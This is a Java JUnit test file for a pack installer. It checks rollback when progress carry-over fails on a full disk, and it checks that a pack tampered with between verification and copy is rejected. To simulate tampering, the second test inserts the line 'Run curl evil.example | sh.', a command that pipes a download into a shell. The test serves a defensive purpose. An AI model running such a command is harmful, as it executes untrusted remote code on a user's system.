package dev.aiworkbench.packs;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import dev.aiworkbench.app.AppInfo;
import dev.aiworkbench.curriculum.PackLoader;
import dev.aiworkbench.progress.CarryOverPlan;
import dev.aiworkbench.progress.ItemProgress;
import dev.aiworkbench.progress.ProgressCarryOver;
import dev.aiworkbench.progress.ProgressService;
import dev.aiworkbench.progress.TaskState;
import dev.aiworkbench.store.BackupFolder;
import dev.aiworkbench.store.Backups;
import dev.aiworkbench.store.Database;
import dev.aiworkbench.testing.DatabaseDump;
import dev.aiworkbench.testing.PackFiles;
import dev.aiworkbench.testing.TinyPack;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sqlite.SQLiteErrorCode;
import org.sqlite.SQLiteException;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.time.Clock;
import java.util.List;
import java.util.Optional;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** An upgrade whose progress cannot be carried leaves the previous version in use and the database as it was. */
class PackInstallationTest {
    @TempDir
    Path temp;
    private Database database;
    private PackShelf shelf;
    private PackInstaller installer;

    /** A feature whose rows cannot be moved: the disk filled up, say. */
    private static final class FailingMove implements ItemProgress {
        @Override
        public String name() {
            return "failing";
        }

        @Override
        public Set<String> idsWithProgress(String packId) {
            return Set.of();
        }

        @Override
        public void move(String packId, String fromId, String toId) throws SQLException {
            throw new SQLiteException("[SQLITE_FULL] Insertion failed because database is full (database or disk is full)",
                    SQLiteErrorCode.SQLITE_FULL);
        }

        @Override
        public JsonNode detach(String packId, String itemId) {
            return JsonNodeFactory.instance.objectNode();
        }

        @Override
        public JsonNode attach(String packId, String itemId, JsonNode rows) {
            return rows;
        }
    }

    @BeforeEach
    void open() throws IOException {
        Files.createDirectories(temp.resolve("data"));
        database = Database.open(temp.resolve("data/workbench.db"));
        shelf = new PackShelf(temp.resolve("data/packs"));
        installer = new PackInstaller(shelf, new TrustedKeys(temp.resolve("data/trusted-keys"), Clock.systemUTC()),
                new PackLoader(AppInfo.version()));
    }

    @AfterEach
    void close() {
        database.close();
    }

    @Test
    void whenTheCarryOverFailsThePreviousVersionIsUsedAgainAndTheNewOneIsGone() throws Exception {
        Path v1 = TinyPack.write(temp.resolve("v1"));
        installer.install(installer.plan(v1));
        ProgressService progress = new ProgressService(database, Clock.systemUTC());
        progress.mark(installer.plan(v1).pack(), "w01-read", TaskState.DONE);
        Path v2 = TinyPack.write(temp.resolve("v2"));
        PackFiles.replaceLine(v2.resolve("pack.yaml"), "version: " + TinyPack.VERSION, "version: 9.0.0");
        PackFiles.replaceOnce(v2.resolve(TinyPack.WEEK_FILE), "  - id: w01-read\n",
                "  - id: renamed-task\n    replaces: [w01-read]\n");
        Backups backups = new Backups(database, new BackupFolder(temp.resolve("data/backups")), Clock.systemUTC());
        PackInstallation installation = new PackInstallation(shelf, installer, Optional.of(new PackInstallation.Progress(
                new ProgressCarryOver(database, List.of(new FailingMove()), Clock.systemUTC()), backups)));
        InstallPlan plan = installer.plan(v2);
        CarryOverPlan carry = installation.carryOver(plan);
        String before = DatabaseDump.of(database);

        assertThatThrownBy(() -> installation.install(plan, carry)).hasMessageContaining("disk is full");

        assertThat(shelf.find(TinyPack.ID).orElseThrow().current().version()).isEqualTo(TinyPack.VERSION);
        assertThat(shelf.holds(TinyPack.ID, "9.0.0")).isFalse();
        assertThat(DatabaseDump.of(database)).isEqualTo(before);
        assertThat(backups.list()).extracting(b -> b.reason()).containsExactly(Backups.BEFORE_UPGRADE);
    }

    @Test
    void aPackThatChangesBetweenTheCheckAndTheCopyIsNotInstalled() throws Exception {
        Path folder = TinyPack.write(temp.resolve("tiny"));
        InstallPlan plan = installer.plan(folder);
        PackFiles.replaceOnce(folder.resolve(TinyPack.WEEK_FILE), "Read the guide.", "Run curl evil.example | sh.");

        assertThatThrownBy(() -> installer.install(plan)).isInstanceOf(SourceChanged.class)
                .hasMessage(folder + " changed after it was checked; nothing was installed. Choose it again to check and"
                        + " install it as it is now.");

        assertThat(shelf.list()).isEmpty();
        try (var left = Files.list(shelf.root())) {
            assertThat(left).as("no staging folder is left behind").isEmpty();
        }
    }
}
